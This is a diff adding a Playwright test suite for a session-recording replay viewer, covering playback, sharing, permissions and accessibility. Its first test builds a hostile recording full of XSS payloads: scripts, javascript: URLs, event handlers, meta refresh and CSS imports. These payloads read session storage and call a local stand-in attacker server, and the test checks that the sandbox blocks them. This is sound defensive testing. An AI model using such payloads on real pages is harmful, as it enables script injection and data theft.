@@ -1,0 +1,407 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { expect, type FrameLocator, type Page } from '@playwright/test'
+import { expectAccessible, signIn, test, type Tenant } from './journey.ts'
+import {
+  clicked,
+  element,
+  logged,
+  packed,
+  pageShown,
+  requested,
+  sendSession,
+  textChanged,
+  type RecordedEvent,
+} from './recorded-session.ts'
+import type { RunningService } from './service.ts'
+
+const minute = 60_000
+
+/** What the recorded page shows. */
+function recordedPage(page: Page): FrameLocator {
+  return page.frameLocator('iframe[title="The recorded page"]').frameLocator('iframe:visible')
+}
+
+function place(page: Page) {
+  return page.getByRole('slider', { name: 'Place in the recording' })
+}
+
+/** Two minutes in a shop of lamps, half of it idle; the texts say when they are shown. */
+function visitToShop(start: number): RecordedEvent[] {
+  const heading = element('h1', {}, 'At the beginning')
+  const text = textIn(heading)
+  const [meta, snapshot] = pageShown(start, {
+    head: [element('style', {}, 'h1 { color: rgb(0, 128, 0) }')],
+    body: [heading, element('button', {}, 'Buy')],
+  })
+  if (!meta || !snapshot) throw new Error('a page begins with its size and its snapshot')
+  const busy = Array.from({ length: 12 }, (_, index) => clicked(start + 2_000 + index * 4_000, heading.id))
+  return [
+    meta,
+    packed(snapshot),
+    ...busy,
+    logged(start + 10_000, 'error', 'The lamp could not be lit'),
+    requested(start + 20_000, 'https://shop.example/api/cart', 500),
+    textChanged(start + 30_000, text, 'After half a minute'),
+    clicked(start + 118_000, heading.id),
+    textChanged(start + 2 * minute, text, 'At the end'),
+  ]
+}
+
+function textIn(node: object): number {
+  const [text] = (node as { childNodes: { id: number }[] }).childNodes
+  if (!text) throw new Error('the element holds no text')
+  return text.id
+}
+
+async function watchShop(page: Page, service: RunningService, tenant: Tenant, search = '') {
+  const session = await sendSession(service, tenant, visitToShop(Date.now() - 10 * minute))
+  await signIn(page, service, tenant.api_key, `/recordings/${session}${search}`)
+  return session
+}
+
+async function makeKey(service: RunningService, tenant: Tenant, scopes: string): Promise<string> {
+  const of = ['--organization', tenant.organization_id, '--label', 'Other', '--scopes', scopes]
+  return (await service.admin<{ api_key: string }>('key', 'create', ...of)).api_key
+}
+
+function apiOf(service: RunningService, tenant: Tenant, session: string) {
+  const url = `${service.origin}/api/projects/${tenant.project_id}/session_recordings/${session}/`
+  return async (method: string, path = '', body?: object) => {
+    const headers = { authorization: `Bearer ${tenant.api_key}`, 'content-type': 'application/json' }
+    const answer = await fetch(url + path, { method, headers, ...(body && { body: JSON.stringify(body) }) })
+    const text = await answer.text()
+    return { status: answer.status, json: (text === '' ? {} : JSON.parse(text)) as Record<string, unknown> }
+  }
+}
+
+test('of a hostile recording nothing runs, nothing is loaded, and nothing leads anywhere', async ({
+  page,
+  service,
+  tenant,
+}) => {
+  const hits: string[] = []
+  const sink = createServer((request, response) => {
+    hits.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((listening) => sink.listen(0, '127.0.0.1', listening))
+  const evil = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
+  const steal = `top.stolen = top.sessionStorage.length; fetch('${evil}/run'); top.location = '${evil}/top'`
+  const isolated = { type: 'text/html', src: `javascript:${steal}` }
+  const hostile = () => [
+    element('script', {}, steal),
+    element('script', { src: `${evil}/script.js` }),
+    element('img', { src: `${evil}/image.png`, srcset: `${evil}/set.png 2x`, onerror: steal, onload: steal }),
+    element('img', { src: 'data:image/png;base64,broken', onerror: steal }),
+    element('iframe', { src: `${evil}/frame` }),
+    element('iframe', { src: `javascript:${steal}` }),
+    element('iframe', { srcdoc: `<script>${steal}</script><img src="${evil}/srcdoc.png">` }),
+    element('object', { data: `${evil}/object`, ...isolated }),
+    element('embed', isolated),
+    element('video', { src: `${evil}/video.mp4`, poster: `${evil}/poster.png`, autoplay: true }),
+    element(
+      'svg',
+      { onload: steal },
+      element('image', { href: `${evil}/svg.png`, 'xlink:href': `${evil}/x.png` }),
+    ),
+    element(
+      'form',
+      { action: `${evil}/form` },
+      element('button', { formaction: `javascript:${steal}` }, 'Send'),
+    ),
+    element('a', { href: `javascript:${steal}`, id: 'way' }, 'A way out'),
+    element('a', { href: `${evil}/link`, ping: `${evil}/ping`, target: '_top' }, 'Another way out'),
+    element(
+      'p',
+      { style: `background: url(${evil}/style.png)`, onmouseover: steal, onfocus: steal },
+      'Hostile',
+    ),
+  ]
+  const head = [
+    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
+    element('base', { href: evil }),
+    element('link', { rel: 'stylesheet', href: `${evil}/sheet.css` }),
+    element('link', { rel: 'preconnect', href: evil }),
+    element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
+    element(
+      'style',
+      {},
+      `@import url(${evil}/import.css); @font-face { font-family: x; src: url(${evil}/font) }`,
+    ),
+    element('style', { _cssText: `body { font-family: x; background: url(${evil}/css.png) }` }),
+  ]
+  const start = Date.now() - 10 * minute
+  const body = element('div', {}, ...hostile())
+  const adds = hostile().map((node) => ({ parentId: body.id, nextId: null, node }))
+  const events = [
+    ...pageShown(start, { head, body: [body] }),
+    { type: 3, timestamp: start + 500, data: { source: 0, texts: [], removes: [], adds, attributes: [] } },
+    clicked(start + 1_000, body.id),
+    {
+      type: 3,
+      timestamp: start + 1_200,
+      data: { source: 9, id: body.id, type: 0, property: 'x', args: [steal] },
+    },
+    { type: 3, timestamp: start + 1_300, data: { source: 10, family: 'y', fontSource: `url(${evil}/face)` } },
+    clicked(start + 3_000, body.id),
+  ]
+  const left: string[] = []
+  page.on('requestfinished', (request) => {
+    if (!request.url().startsWith(service.origin) && !request.url().startsWith('data:'))
+      left.push(request.url())
+  })
+  const session = await sendSession(service, tenant, events)
+  await signIn(page, service, tenant.api_key, `/recordings/${session}`)
+  await expect(recordedPage(page).getByText('Hostile')).toBeVisible()
+  await expect(recordedPage(page).locator('form')).toHaveCount(2)
+  await expect(place(page)).toHaveValue('3000')
+  // Neither the mouse nor the keyboard reach into it.
+  const { x, y, width, height } = (await page.getByTitle('The recorded page').boundingBox()) ?? {
+    x: 0,
+    y: 0,
+    width: 0,
+    height: 0,
+  }
+  for (let step = 1; step < 10; step += 1) await page.mouse.click(x + width / 4, y + (height * step) / 10)
+  for (let step = 0; step < 40; step += 1) await page.keyboard.press('Tab')
+  expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME')
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+  expect(page.url()).toContain(`/recordings/${session}`)
+  expect({ hits, left }).toEqual({ hits: [], left: [] })
+  for (const frame of page.frames().slice(2))
+    expect((await (await frame.frameElement()).getAttribute('sandbox')) ?? '').not.toContain('allow-scripts')
+  sink.close()
+})
+
+test('what makes no sense in a recording is passed over, and said', async ({ page, service, tenant }) => {
+  const start = Date.now() - 10 * minute
+  const broken = [
+    {
+      source: 0,
+      texts: [{ id: 'x' }, null],
+      adds: [{ node: { type: 2 } }, { parentId: 1, node: null }],
+      removes: [7],
+    },
+    { source: 0, attributes: [{ id: 1e9, attributes: { style: 7 } }] },
+    ...[1, 6, 12].map((source) => ({ source, positions: [null, { x: 'far' }] })),
+    ...[2, 3, 4, 5, 7, 8, 9, 11, 13, 14, 15, 16, 99].map((source) => ({ source, id: 'none' })),
+    { source: 8, id: 3, adds: [{ rule: '}{' }, null], removes: 'all' },
+    { source: 4, width: -1, height: 'tall' },
+  ].map((data, index) => ({ type: 3, timestamp: start + 3_000 + index * 100, data }))
+  const session = await sendSession(service, tenant, [
+    { type: 2, timestamp: start - 1, data: {} },
+    ...visitToShop(start),
+    ...broken,
+    { type: 20, timestamp: start + 4_000, data: {} },
+  ])
+  await signIn(page, service, tenant.api_key, `/recordings/${session}`)
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+  await expect(page.getByText('6 events could not be read and are left out.')).toBeVisible()
+  await page.keyboard.press('5')
+  await expect(recordedPage(page).getByText('After half a minute')).toBeVisible()
+  await page.keyboard.press('0')
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+  await expect.poll(async () => Number(await place(page).inputValue())).toBeGreaterThan(6_000)
+  await expect(page.getByText('A moment of this recording could not be shown as it was.')).toBeVisible()
+  await place(page).press('End')
+  await expect(recordedPage(page).getByText('At the end')).toBeVisible()
+})
+
+test('a recording plays, and follows the timeline, the keys and the list of what happened', async ({
+  page,
+  service,
+  tenant,
+}) => {
+  await watchShop(page, service, tenant)
+  const shown = recordedPage(page)
+  await expect(shown.getByRole('heading', { name: 'At the beginning', includeHidden: true })).toHaveCSS(
+    'color',
+    'rgb(0, 128, 0)',
+  )
+  await page.keyboard.press(' ')
+  await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible()
+  await page.keyboard.press('5')
+  await expect(place(page)).toHaveValue('60000')
+  await expect(shown.getByText('After half a minute')).toBeVisible()
+  await page.keyboard.press('ArrowRight')
+  await expect(place(page)).toHaveAttribute('aria-valuetext', '1:05 of 2:00')
+  await page.keyboard.press('ArrowUp')
+  await expect(page.getByLabel('Speed')).toHaveValue('1.5')
+  await page.getByRole('button', { name: /The lamp could not be lit/ }).click()
+  await expect(place(page)).toHaveValue('10000')
+  await expect(shown.getByText('At the beginning')).toBeVisible()
+  await expect(page.getByText('at shop.js:1:1')).toBeVisible()
+  await place(page).press('End')
+  await expect(shown.getByText('At the end')).toBeVisible()
+  // Keys do nothing while somebody types.
+  await page.getByLabel('Search in this recording').fill('cart')
+  await page.keyboard.press('0')
+  await expect(place(page)).toHaveValue('120000')
+  await page.getByLabel('Search in this recording').fill('cart')
+  await expect(page.getByRole('list', { name: 'What happened' }).getByRole('listitem')).toHaveText(
+    /POST \/api\/cart 500/,
+  )
+  await page.getByRole('button', { name: 'console', exact: true }).click()
+  await expect(page).toHaveURL(/show=console/)
+  await expect(page.getByText('Nothing like that')).toBeVisible()
+})
+
+test('what is idle is skipped, and a link leads to a moment', async ({ page, service, tenant }) => {
+  await watchShop(page, service, tenant, '?t=50')
+  await expect(place(page)).not.toHaveAttribute('aria-valuetext', /^0:0/)
+  // From the last click before the idle minute to a second before the next one.
+  await expect(place(page)).toHaveAttribute('aria-valuetext', /^(1:5[789]|2:00)/)
+  await expect(recordedPage(page).getByText('At the end')).toBeVisible()
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
+  await page.keyboard.press('3')
+  await page.getByRole('button', { name: 'Share from 0:36' }).click()
+  const link = await page.evaluate(() => navigator.clipboard.readText())
+  expect(link).toMatch(/\/recordings\/[\w-]+\?t=36$/)
+})
+
+test('of two windows the one in use is shown, and said which it is', async ({ page, service, tenant }) => {
+  const start = Date.now() - 10 * minute
+  const other = element('h1', {}, 'In another window')
+  const session = await watchShop(page, service, tenant)
+  await sendSession(
+    service,
+    tenant,
+    [...pageShown(start + 40_000, { body: [other] }), clicked(start + 41_000, other.id)],
+    { session, window: 'window-2' },
+  )
+  await page.reload()
+  await expect(page.getByText('Window 1 of 2')).toBeVisible()
+  await page.keyboard.press(' ')
+  await place(page).fill('41500')
+  await expect(recordedPage(page).getByText('In another window')).toBeVisible()
+  await expect(page.getByText('Window 2 of 2')).toBeVisible()
+})
+
+test('a recording is marked as watched, kept, and deleted unless that is undone', async ({
+  page,
+  service,
+  tenant,
+}) => {
+  const session = await watchShop(page, service, tenant)
+  const api = apiOf(service, tenant, session)
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+  expect((await api('GET')).json['viewed']).toBe('')
+  await expect.poll(async () => (await api('GET')).json['viewed']).not.toBe('')
+  await page.getByRole('button', { name: 'Keep', exact: true }).click()
+  await expect(page.getByRole('button', { name: 'Kept' })).toHaveAttribute('aria-disabled', 'true')
+  expect((await api('GET')).json['storage']).toBe('object_storage_lts')
+  await page.getByRole('button', { name: 'Delete', exact: true }).click()
+  await page.getByRole('button', { name: /Undo/ }).click()
+  await page.goto(`${service.origin}/recordings/${session}`)
+  await page.getByRole('button', { name: 'Delete', exact: true }).click()
+  await expect.poll(async () => (await api('GET')).status).toBe(404)
+  await page.goto(`${service.origin}/recordings/${session}`)
+  await expect(page.getByText('There is no such recording')).toBeVisible()
+  await expectAccessible(page)
+})
+
+test('a key that may only read watches, and learns what it lacks', async ({ page, service, tenant }) => {
+  const session = await sendSession(service, tenant, visitToShop(Date.now() - 10 * minute))
+  const key = await makeKey(service, tenant, 'session_recording:read')
+  await signIn(page, service, key, `/recordings/${session}`)
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+  for (const name of ['Keep', 'Delete']) {
+    const button = page.getByRole('button', { name, exact: true })
+    await expect(button).toHaveAttribute('aria-disabled', 'true')
+    await expect(button).toHaveAccessibleDescription(
+      "API key missing required scope 'session_recording:write'",
+    )
+  }
+  await page.getByRole('link', { name: 'Sharing' }).click()
+  await expect(
+    page.getByText("API key missing required scope 'sharing_configuration:read'").first(),
+  ).toBeVisible()
+  await expectAccessible(page)
+})
+
+test('without a picture, and without an answer, it is said why, and how to go on', async ({
+  page,
+  service,
+  tenant,
+}) => {
+  const start = Date.now() - 10 * minute
+  const session = await sendSession(service, tenant, [
+    textChanged(start, 5, 'of a page that nobody knows'),
+    clicked(start + 1_000, 5),
+  ])
+  await signIn(page, service, tenant.api_key, `/recordings/${session}`)
+  await expect(page.getByText('There is no picture')).toBeVisible()
+  await expectAccessible(page)
+  await sendSession(service, tenant, visitToShop(start + 2_000), { session })
+  await page.getByRole('button', { name: 'Look again' }).click()
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+
+  await page.route(/source=blob_v2/, (route) => route.abort())
+  await page.reload()
+  await expect(page.getByText('The service cannot be reached.').last()).toBeVisible()
+  await page.unroute(/source=blob_v2/)
+  await page.getByRole('button', { name: 'Retry' }).last().click()
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+})
+
+test('whoever has a link watches without a key, with its password, until it is closed', async ({
+  browser,
+  service,
+  tenant,
+}) => {
+  const session = await sendSession(service, tenant, visitToShop(Date.now() - 10 * minute))
+  const api = apiOf(service, tenant, session)
+  const { json: sharing } = await api('PATCH', 'sharing/', { enabled: true })
+  const token = String(sharing['access_token'])
+  const context = await browser.newContext()
+  const page = await context.newPage()
+  const keys: string[] = []
+  page.on('request', (request) => {
+    if (request.headers()['authorization']) keys.push(request.url())
+  })
+  await page.goto(`${service.origin}/shared/${token}?t=36`)
+  await expect(recordedPage(page).getByText('After half a minute')).toBeVisible()
+  await expect(page.getByRole('navigation')).toHaveCount(0)
+  await expectAccessible(page)
+  await page.setViewportSize({ width: 375, height: 700 })
+  await expect(page.getByRole('button', { name: 'Full screen' })).toBeInViewport()
+  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375)
+  await page.goto(`${service.origin}/embedded/${token}`)
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+  await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible()
+
+  await api('PATCH', 'sharing/', { password: 'lämpchen' })
+  await page.goto(`${service.origin}/shared/${token}`)
+  await page.getByLabel('Password').fill('wrong')
+  await page.keyboard.press('Enter')
+  await expect(page.getByText('This is not the password.')).toBeVisible()
+  await expectAccessible(page)
+  await page.getByLabel('Password').fill('lämpchen')
+  await page.keyboard.press('Enter')
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+
+  await api('PATCH', 'sharing/', { enabled: false })
+  await page.reload()
+  await expect(page.getByText('This link opens nothing')).toBeVisible()
+  await expectAccessible(page)
+  expect(keys).toEqual([])
+  await context.close()
+})
+
+test('every part of the page is accessible, and usable on a narrow window', async ({
+  page,
+  service,
+  tenant,
+}) => {
+  await watchShop(page, service, tenant)
+  await expect(recordedPage(page).getByText('At the beginning')).toBeVisible()
+  await page.keyboard.press(' ')
+  for (const tab of ['Events', 'Summary', 'Similar', 'Person', 'Sharing']) {
+    await page.getByRole('link', { name: tab, exact: true }).click()
+    await expect(page.getByRole('link', { name: tab, exact: true })).toHaveAttribute('aria-current', 'page')
+    await expectAccessible(page)
+  }
+  await page.setViewportSize({ width: 375, height: 800 })
+  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375)
+})
